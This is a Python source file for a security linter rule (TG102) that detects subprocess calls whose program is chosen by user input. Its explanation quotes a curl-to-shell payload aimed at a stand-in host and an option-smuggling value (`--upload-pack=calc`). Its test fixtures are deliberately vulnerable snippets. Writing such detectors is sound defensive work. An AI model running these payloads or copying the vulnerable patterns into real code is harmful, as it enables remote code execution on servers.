"""TG102: the program a process runs is chosen by the user."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule
from tabguard.engine.taint import LOCAL_SOURCES, OWN_COMMAND_LINE, OWN_PATH
from tabguard.rules.injection._shell import (
    LAUNCHERS,
    is_shell_program,
    launched,
    process_call,
    process_call_name,
    script_argument,
    shell_enabled,
)
from tabguard.rules.injection._strings import formatted_pieces

_LAMBDA = "Lambda event"


class TaintedExecutable(Rule):
    id = "TG102"
    name = "user-chosen-executable"
    severity = "critical"
    confidence = "high"
    cwe = (78, 88)
    owasp = "A05:2025"
    message = "`{callee}` runs {what} chosen by user input ({source})"
    placeholders = {"callee": "subprocess.run", "source": "request data", "what": "a program"}
    aliases = ("B603", "B606", "S603", "S606")
    call_names = LAUNCHERS | {"getattr"}  # `getattr`: see `process_call`
    what = (
        "The program started by `{callee}` (or its whole argument list, or the script an interpreter "
        "such as `python` or `bash` runs) comes from {source}."
    )
    why = (
        "An argument list stops shell parsing, but not the choice of program: a request that sends "
        '`["bash", "-c", "curl evil.test | sh"]` or `/usr/bin/python3` as the tool name runs anything '
        'the server account can. Assistants write `subprocess.run(request.json["cmd"])` for "run a '
        'task" endpoints. A whole command line in one string without a shell '
        '(`subprocess.run("git clone " + url)`) is no safer: Windows splits it into arguments, so '
        "`url=--upload-pack=calc` adds an option that runs a program (on POSIX the call fails, and the "
        'usual "fix", `shell=True`, makes it a shell injection).'
    )
    how = (
        'Map a user-supplied *name* to a fixed program from an allow-list (`TOOLS = {{"lint": ["ruff", '
        '"check"]}}`) and pass only validated values as later arguments.'
    )
    example = 'TOOLS = {"lint": ["ruff", "check", "."]}\nsubprocess.run(TOOLS[name], check=True) if name in TOOLS else abort(400)'
    references = (
        "https://cwe.mitre.org/data/definitions/78.html",
        "https://cwe.mitre.org/data/definitions/88.html",
    )
    VALID = (
        # Lambda runs on Linux: the one string names a program file that does not exist (no splitting).
        'import subprocess\ndef handler(event, context):\n    subprocess.call("grep -R {} .".format(event["q"]))\n',
        'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["git", "log", request.args["ref"]])\n',
        'import subprocess\nTOOLS = {"lint": ["ruff", "check"]}\ndef f(request):\n'
        '    name = request.GET["tool"]\n    if name in TOOLS:\n        subprocess.run(TOOLS[name])\n',
        'import subprocess\ndef f(prog):\n    subprocess.run([prog, "--version"])\n',
        'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", "tool.py", request.form["arg"]])\n',
        'import asyncio\ndef handler(event, context):\n    return asyncio.create_subprocess_exec("git", "log", *event["paths"])\n',
        'import subprocess\ndef f(ref):\n    subprocess.run("git log " + ref)\n',
        'import subprocess, sys\nsubprocess.call("grep -R {} .".format(sys.argv[1]))\n',
        # an autoreloader runs the same program again, with its own command line
        "import subprocess, sys\ndef restart():\n    subprocess.run([sys.executable] + sys.argv)\n",
        "import subprocess, sys\ndef child_arguments():\n    args = [sys.executable, '-W', 'default']\n"
        "    args += sys.argv\n    return args\ndef restart_with_reloader():\n    args = child_arguments()\n"
        "    while subprocess.run(args).returncode == 3:\n        pass\n",
        # the program is the list's first element, also when the list is built before the call
        "import subprocess\nfrom flask import request\ndef thumbnail():\n"
        "    cmd = ['convert', request.files['image'].filename, '-resize', '64x64', 'out.png']\n"
        "    subprocess.run(cmd, check=True)\n",
    )
    INVALID = (
        Invalid('import subprocess\nfrom flask import request\ndef run():\n    subprocess.run(request.json["argv"])\n'),
        Invalid('import subprocess, sys\nsubprocess.Popen([sys.argv[1], "--help"])\n'),
        Invalid("import subprocess, sys\ndef run_tool():\n    subprocess.run(sys.argv[1:])\n"),
        Invalid(
            "import subprocess\nfrom flask import request\ndef run():\n"
            "    cmd = [request.json['tool'], '--version']\n    subprocess.run(cmd)\n"
        ),
        Invalid(
            "import subprocess, sys\nfrom flask import request\ndef run():\n"
            "    cmd = [sys.executable, request.form['script']]\n    subprocess.run(cmd)\n"
        ),
        Invalid(
            'import os\nfrom flask import request\ndef f():\n    os.execvp(request.args["p"], [request.args["p"]])\n'
        ),
        Invalid(
            'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run(["python3", request.form["script"]])\n'
        ),
        Invalid(
            'import subprocess\nfrom flask import request\ndef f():\n    subprocess.run("git clone " + request.form["repo"])\n'
        ),
        Invalid(
            'import asyncio\ndef handler(event, context):\n    argv = event["cmd"]\n'
            "    return asyncio.create_subprocess_exec(*argv)\n"
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        node = process_call(node, ctx)
        if node is None:
            return
        callee = process_call_name(node, ctx)
        launch = launched(node, callee, ctx)
        if launch is None or shell_enabled(node, ctx):
            return  # shell=True is TG100's case
        for program, argv in _spellings(*launch, ctx):  # one per branch that builds the list
            if self._check(node, callee, program, argv, ctx):
                return

    def _check(self, node: ast.Call, callee: str, program: ast.expr | None, argv: list[ast.expr], ctx) -> bool:
        parts = formatted_pieces(program) if program is not None else None
        source = ctx.taint(program)
        severity = None
        if parts and isinstance(parts[0], str) and " " in parts[0]:
            # "ping " + host without a shell: the user picks arguments (Windows parses the string), not
            # the program; a local user choosing options of their own command crosses no boundary.
            # An AWS Lambda handler runs on Linux, where the whole string is one program file name: the
            # call fails, it is not injected (Windows-only argument splitting is the risk).
            source = source if source is None or source.label not in (*LOCAL_SOURCES, _LAMBDA) else None
            what, severity = "a command line (one string, split into arguments on Windows)", "high"
        else:
            what = "a program"
            if source is None:
                source, what = ctx.taint(script_argument(program, argv)), "a script"
        if source is None or source.label in (OWN_PATH, OWN_COMMAND_LINE):
            return False  # `[sys.executable] + sys.argv`: the program runs itself again, nobody picked another
        ctx.report(
            self,
            node,
            details={"callee": callee or ast.unparse(node.func), "what": what},
            source=source,
            severity=severity,
        )
        return True


def _spellings(program: ast.expr | None, argv: list[ast.expr], ctx) -> list[tuple[ast.expr | None, list[ast.expr]]]:
    """`cmd = ["convert", path, "out.png"]` ... `subprocess.run(cmd)`: the program is the list's first
    element, as when the list is written in the call (`[sys.executable] + sys.argv` too), for each
    list the branches bind to the name. A list that starts with an interpreter or shell stays whole:
    what it runs may be appended later."""
    if argv or program is None:
        return [(program, argv)]
    each = ctx.model.each_value(program) if isinstance(program, ast.Name) else [program]
    return [_spelled_out(program, value, ctx) for value in each or (None,)]


def _spelled_out(program: ast.expr, value: ast.expr | None, ctx) -> tuple[ast.expr | None, list[ast.expr]]:
    """The program and arguments of one list `value` that `program` holds (`program` whole when it
    is not a list)."""
    rest: list[ast.expr] = []
    while isinstance(value, ast.BinOp) and isinstance(value.op, ast.Add):
        rest.insert(0, value.right)
        value = value.left
    if not isinstance(value, (ast.List, ast.Tuple)) or not value.elts or isinstance(value.elts[0], ast.Starred):
        return program, []
    if is_shell_program(value.elts[0]) or ctx.qualname(value.elts[0]) == "sys.executable":
        return program, []
    return value.elts[0], [*value.elts[1:], *rest]
